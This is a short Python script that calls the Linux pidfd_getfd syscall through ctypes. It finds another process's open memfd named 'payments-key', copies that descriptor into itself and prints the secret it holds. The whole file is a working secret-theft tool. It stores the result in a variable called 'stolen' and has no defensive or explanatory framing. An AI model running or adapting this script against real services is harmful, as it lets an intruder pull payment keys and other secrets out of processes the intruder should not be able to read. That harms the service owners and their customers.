#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""pidfd_getfd by ctypes: copy the service's memfd into this process and read it."""
import ctypes
import os
import sys

PIDFD_GETFD = 438
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

folder = "/proc/%d/fd" % pid
number = next(int(fd) for fd in os.listdir(folder) if "payments-key" in os.readlink(folder + "/" + fd))
stolen = libc.syscall(ctypes.c_long(PIDFD_GETFD), os.pidfd_open(pid), number, 0)
if stolen < 0:
    sys.exit("pidfd_getfd: " + os.strerror(ctypes.get_errno()))
print(os.pread(stolen, 64, 0).decode())
